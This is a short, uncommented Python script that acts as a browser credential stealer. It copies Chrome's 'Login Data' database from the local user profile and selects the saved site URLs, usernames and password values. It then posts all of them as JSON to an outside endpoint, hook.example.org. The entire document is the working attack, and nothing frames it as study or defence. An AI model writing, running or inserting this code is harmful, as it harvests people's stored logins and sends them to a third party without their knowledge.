import os, sqlite3, shutil, json, urllib.request as u
p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy(p, "x.db")
rows = sqlite3.connect("x.db").execute("select origin_url, username_value, password_value from logins").fetchall()
u.urlopen(u.Request("https://hook.example.org/i", json.dumps([list(map(str, r)) for r in rows]).encode()))
